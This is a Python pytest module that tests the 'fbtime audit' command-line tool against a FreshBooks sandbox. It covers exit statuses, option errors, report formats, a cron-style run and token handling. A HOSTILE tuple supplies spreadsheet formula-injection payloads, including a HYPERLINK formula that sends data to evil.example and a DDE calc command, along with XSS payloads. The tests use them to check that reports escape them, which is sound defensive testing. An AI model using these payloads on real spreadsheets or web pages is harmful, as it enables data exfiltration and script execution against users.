"""`fbtime audit` on the sandbox: the library's findings, exit statuses 0/1/2, the three
report formats (hostile names escaped), a refused token and a run as cron makes it."""

from __future__ import annotations

import csv
import html.parser
import json
import os
import subprocess
import sys
from decimal import Decimal

import pandas as pd
import pytest

import fbtime
from fbtime.audit import MONEY_RULES, OPT_IN_RULES, RULES
from fbtime.cli import main

NOW = "2026-12-01T12:00:00Z"
#: Client names typed by an attacker: formulas for spreadsheets, markup for the page.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "<img src=x onerror=alert(1)>",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert('x')</script>",
    "+1-1",
    "Société Générale Café",
    "株式会社山田デザイン",
    '"><svg onload=alert(1)>',
)


def env(monkeypatch, sb, tmp_path):
    monkeypatch.setenv("FRESHBOOKS_ACCESS_TOKEN", sb.token)
    monkeypatch.setenv("FRESHBOOKS_BUSINESS_ID", str(sb.business_id))
    monkeypatch.setenv("FRESHBOOKS_API_URL", sb.url)
    monkeypatch.setenv("FBTIME_CACHE_DIR", str(tmp_path / "cache"))


def run(argv) -> int:
    """``main`` as a shell sees it: argparse's usage errors exit 2 as well."""
    try:
        return main(["audit", *argv])
    except SystemExit as exc:
        return int(exc.code or 0)


def library(sb, **filters):
    """What a notebook does: the same load, names and team as the command."""
    client = sb.client(cache=False)
    frame = fbtime.load_time_entries(client, progress=False, **filters)
    team = fbtime.load_team(client)
    named = frame.fbtime.with_names(clients=fbtime.load_clients(client), team=team)
    return named, team


def records(found: pd.DataFrame) -> list[dict]:
    return [
        {"rule": r.rule, "id": None if pd.isna(r.id) else int(r.id),
         "date": None if pd.isna(r.date) else pd.Timestamp(r.date).date().isoformat(),
         "teammate": None if pd.isna(r.teammate) else r.teammate,
         "client": None if pd.isna(r.client) else r.client,
         "hours": None if pd.isna(r.hours) else float(r.hours), "detail": r.detail,
         "severity": str(r.severity)}
        for r in found.itertuples(index=False)
    ]  # fmt: skip


@pytest.fixture(scope="module")
def hostile():
    """A sandbox of this module's own whose clients were named by an attacker."""
    with fbtime.Sandbox(entries=300, seed=3, rate_limit=None) as sb:
        for name, record in zip(HOSTILE, sb.dataset.clients, strict=False):
            record["organization"] = name
        yield sb


def test_findings_equal_the_library_and_errors_exit_1(sandbox, tmp_path, monkeypatch, capsys):
    env(monkeypatch, sandbox, tmp_path)
    report = tmp_path / "audit.json"
    assert run(["--team", "--now", NOW, "--report", str(report)]) == 1
    frame, _ = library(sandbox, team=True)
    expected = frame.fbtime.audit(now=NOW)
    document = json.loads(report.read_text("utf-8"))
    assert document["findings"] == records(expected)
    assert document["counts"] == {"error": 17, "warning": 305, "info": 9}
    assert document["exit_status"] == 1 and document["fail_on"] == "error"
    out = capsys.readouterr().out
    assert out.startswith(
        f"fbtime audit: {len(frame):,} entries, 331 findings (17 error, 305 warning, 9 info); "
        "fails --fail-on error\n"
    )


def test_filters_and_rule_options_match_the_library(sandbox, tmp_path, monkeypatch):
    env(monkeypatch, sandbox, tmp_path)
    report = tmp_path / "audit.json"
    argv = ["--team", "--billable", "--started-from", "2026-11-02", "--now", NOW,
            "--unbilled-days", "20", "--expected-hours", "6", "--expected-hours-for",
            "Hiro Tanaka=2", "--week-start", "sunday", "--fail-on", "never",
            "--report", str(report)]  # fmt: skip
    assert run(argv) == 0
    frame, team = library(sandbox, team=True, billable=True, started_from="2026-11-02")
    priced = (*MONEY_RULES, "over_budget")
    rules = [*(n for n in RULES if n not in (*OPT_IN_RULES, *priced)), *OPT_IN_RULES]
    expected = frame.fbtime.audit(
        rules, now=NOW, unbilled_days=20, team=team, week_start="sunday",
        expected_hours_per_day={None: 6, "Hiro Tanaka": 2},
    )  # fmt: skip
    found = json.loads(report.read_text("utf-8"))["findings"]
    assert found == records(expected)
    assert any(f["rule"] == "under_logged" and "week of Sun" in f["detail"] for f in found)


@pytest.mark.parametrize(
    ("argv", "status"),
    [
        (["--rules", "negative_duration,running"], 0),  # nothing found
        (["--rules", "missing_note"], 0),  # warnings only: below --fail-on error
        (["--rules", "missing_note", "--fail-on", "warning"], 1),
        (["--rules", "missing_day", "--fail-on", "warning"], 0),  # info only
        (["--rules", "missing_day", "--fail-on", "info"], 1),
        (["--fail-on", "never"], 0),
    ],
)
def test_exit_statuses(sandbox, tmp_path, monkeypatch, argv, status):
    env(monkeypatch, sandbox, tmp_path)
    assert run(["--team", "--now", NOW, *argv]) == status


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["--rules", "overlap,nope"], "unknown audit rule(s): nope"),
        (["--rules", "missing_rate"], "need amounts: add --rates"),
        (["--report", "audit.txt"], "a report ends in .html, .csv, .json"),
        (["--round", "15"], "give the step with its unit"),
        (["--round", "15min:sideways"], "how must be one of up, nearest, down"),
        (["--now", "soon"], "--now must be an ISO date"),
        (["--started-from", "soon"], "started_from"),
        (["--fail-on", "bogus"], "invalid choice: 'bogus'"),
        (["--expected-hours", "30"], "from 0 to 24"),
        (["--expected-hours-for", "Zoë"], "TEAMMATE=HOURS"),
        (["--unbilled-days", "-1"], "--unbilled-days"),
        (["--standard-rate", "100"], "go with --rates"),
        (["--bogus"], "unrecognized arguments: --bogus"),
        (["--tz", "Mars/Olympus"], "is no time zone"),
        (["--rates", "--standard-rate", "lots"], "standard_rate"),
    ],
)
def test_bad_options_exit_2_in_one_line_before_any_request(
    sandbox, tmp_path, monkeypatch, capsys, argv, message
):
    env(monkeypatch, sandbox, tmp_path)
    monkeypatch.chdir(tmp_path)
    sandbox.reset_stats()
    assert run(["--team", *argv]) == 2
    captured = capsys.readouterr()
    assert captured.out == ""
    lines = captured.err.splitlines()
    assert len(lines) == 1 and lines[0].startswith("fbtime audit: error: ")
    assert message in lines[0]
    assert sum(sandbox.stats().values()) == 0
    assert list(tmp_path.iterdir()) == []


def test_csv_report_opens_as_excel_would(hostile, tmp_path, monkeypatch):
    env(monkeypatch, hostile, tmp_path)
    report = tmp_path / "audit.csv"
    assert run(["--team", "--now", NOW, "--fail-on", "never", "--report", str(report)]) == 0
    raw = report.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only after a BOM
    with report.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    frame, _ = library(hostile, team=True)
    expected = frame.fbtime.audit(now=NOW)
    assert [r["rule"] for r in rows] == expected["rule"].tolist()
    assert [r["id"] for r in rows] == expected["id"].astype("str").fillna("").tolist()
    clients = {r["client"] for r in rows}
    # every formula-looking name is text, with the leading ' spreadsheets show as is
    assert "'" + HOSTILE[0] in clients and "'" + HOSTILE[2] in clients
    assert not any(c.startswith(("=", "+", "-", "@")) for r in rows for c in r.values())
    assert "Société Générale Café" in clients  # accents intact through the BOM


class _Page(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)

    def handle_data(self, data):
        self.text.append(data)


def test_html_report_is_a_page_of_its_own_with_every_name_escaped(hostile, tmp_path, monkeypatch):
    env(monkeypatch, hostile, tmp_path)
    report = tmp_path / "audit.html"
    assert run(["--team", "--now", NOW, "--report", str(report)]) == 1
    page = report.read_text("utf-8")
    page_parser = _Page()
    page_parser.feed(page)
    # no markup from a name: the only tags are the page's own
    assert set(page_parser.tags) <= {"html", "head", "meta", "title", "style", "body", "h1",
                                     "h2", "h3", "h4", "p", "div", "table", "thead", "tbody",
                                     "tr", "th", "td"}  # fmt: skip
    assert "<script>alert" not in page and "<img src=x" not in page and "<svg" not in page
    text = "".join(page_parser.text)
    assert HOSTILE[1] in text and HOSTILE[3] in text  # shown, as text
    assert "default-src 'none'" in page  # and a page that may run nothing anyway
    frame, _ = library(hostile, team=True)
    found = frame.fbtime.audit(now=NOW)
    assert page_parser.tags.count("tr") >= len(found) + 1
    assert f"exit status 1 (--fail-on error): {len(found):,} findings" in page


def test_rounded_money_in_the_json_report_equals_the_library(sandbox, tmp_path, monkeypatch):
    env(monkeypatch, sandbox, tmp_path)
    report = tmp_path / "audit.json"
    argv = ["--team", "--now", NOW, "--round", "15min:up", "--rates", "--standard-rate", "100",
            "--fail-on", "never", "--report", str(report)]  # fmt: skip
    assert run(argv) == 0
    document = json.loads(report.read_text("utf-8"))
    frame, _ = library(sandbox, team=True)
    rates = fbtime.load_rates(sandbox.client(cache=False))
    rounded = frame.fbtime.round_time("15min", how="up").fbtime.with_rates(rates, standard_rate=100)
    totals = rounded.fbtime.totals()
    assert document["rounded"] == {"step": 900, "how": "up"}
    assert Decimal(document["totals"]["billable_amount"]) == totals.billable_amount
    assert document["totals"]["hours"] == totals.hours
    assert document["totals"]["agrees"] is True  # the server's totals are of the logged time
    logged = frame.fbtime.with_rates(rates, standard_rate=100).fbtime.totals()
    assert totals.billable_amount > logged.billable_amount  # rounding up adds money
    assert document["findings"] == records(rounded.fbtime.audit(now=NOW, rates=rates))
    assert isinstance(document["findings"][0]["id"], int)


def _child_env(sb, tmp_path, token):
    keep = {k: os.environ[k] for k in ("PATH", "SYSTEMROOT", "LANG") if k in os.environ}
    return {
        **keep,
        "HOME": str(tmp_path),
        "FBTIME_CACHE_DIR": str(tmp_path / "cache"),
        "FBTIME_CONFIG_DIR": str(tmp_path / "config"),
        "FRESHBOOKS_ACCESS_TOKEN": token,
        "FRESHBOOKS_BUSINESS_ID": str(sb.business_id),
        "FRESHBOOKS_API_URL": sb.url,
    }


def test_run_as_cron_runs_it_no_terminal_no_prompt_no_progress_bar(sandbox, tmp_path):
    report = tmp_path / "audit.html"
    child = subprocess.run(
        [sys.executable, "-m", "fbtime", "audit", "--team", "--now", NOW, "--report", str(report)],
        env=_child_env(sandbox, tmp_path, sandbox.token), stdin=subprocess.DEVNULL,
        capture_output=True, text=True, timeout=180,
    )  # fmt: skip
    assert child.returncode == 1, child.stderr
    assert child.stderr == ""  # 2,000 entries are several pages: a terminal would see a bar
    assert child.stdout.splitlines()[0].endswith("(17 error, 305 warning, 9 info); fails "
                                                 "--fail-on error")  # fmt: skip
    assert child.stdout.splitlines()[-1] == f"report: {report}"
    assert report.stat().st_mode & 0o777 == 0o600


def test_a_refused_token_exits_2_in_one_line_without_the_token(sandbox, tmp_path):
    token = "refused-token-5f3c9a0e7d1b"
    child = subprocess.run(
        [sys.executable, "-m", "fbtime", "audit", "--team", "--now", NOW,
         "--report", str(tmp_path / "audit.json")],
        env=_child_env(sandbox, tmp_path, token), stdin=subprocess.DEVNULL,
        capture_output=True, text=True, timeout=180,
    )  # fmt: skip
    assert child.returncode == 2
    assert child.stdout == ""
    lines = child.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("fbtime audit: error: "), child.stderr
    assert "401" in lines[0] or "token" in lines[0].lower()
    assert token not in child.stderr + child.stdout
    assert "Traceback" not in child.stderr
    assert not (tmp_path / "audit.json").exists()
